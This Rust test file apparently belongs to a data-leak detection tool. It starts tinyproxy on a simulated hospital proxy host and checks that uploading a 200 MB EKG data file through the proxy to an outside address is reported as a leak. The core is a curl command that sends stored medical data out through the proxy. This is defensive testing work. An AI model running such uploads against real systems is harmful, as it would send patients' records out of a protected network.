//! Leaks through a proxy with an internal address: judged as external, because it passes data on.

use jaga_tests::leak::Leak;
use jaga_tests::net::PROXY;
use jaga_tests::process::{Running, Unit};
use jaga_tests::wait::until;
use jaga_tests::world::{MB, World};

/// tinyproxy on the hospital's proxy host; the way out that needs no way out.
fn proxy(world: &mut World) {
    let config = world.folder().join("tinyproxy.conf");
    // `Listen` on all, so that the test can see it listen from the proxy's own loopback.
    std::fs::write(
        &config,
        "Port 3128\nTimeout 60\nMaxClients 20\nConnectPort 80\nLogLevel Critical\n",
    )
    .unwrap();
    let running = Running::start(
        world
            .net
            .proxy
            .command("tinyproxy")
            .arg("-d")
            .arg("-c")
            .arg(&config),
    );
    until("tinyproxy to listen", 10, || {
        world
            .net
            .proxy
            .inside(|| std::net::TcpStream::connect("127.0.0.1:3128").ok())
    });
    world.keep(running);
}

fn by_proxy(name: &str, how: &str) {
    let Some(mut world) = World::new(name) else {
        return;
    };
    proxy(&mut world);
    let store = world.store("ekg", 1, 200 * MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.proxy.received();
    let unit = Unit::new("jagat-proxy.service");
    let url = "http://198.51.100.9";
    unit.run(
        &format!(
            "curl -sf {how} -x http://{PROXY}:3128 --limit-rate 60M -T {}/0000.dcm {url}/",
            store.display()
        ),
        60,
    );
    assert_eq!(world.sink.received(), 200 * MB);
    // What the proxy received from inside; the acknowledgements it gets from outside carry nothing.
    let sent = world.net.proxy.received() - before;
    let session = unit.session();
    let leak = Leak {
        rule: "store-data-leaves",
        store: "ekg",
        session: &session,
        destination: PROXY,
        scopes: &["relay", "internal"],
    };
    leak.told(&mut agent, sent);
}

#[test]
fn through_a_proxy_by_connect() {
    by_proxy("through_a_proxy_by_connect", "--proxytunnel");
}

#[test]
fn through_a_proxy_by_absolute_form() {
    by_proxy("through_a_proxy_by_absolute_form", "");
}
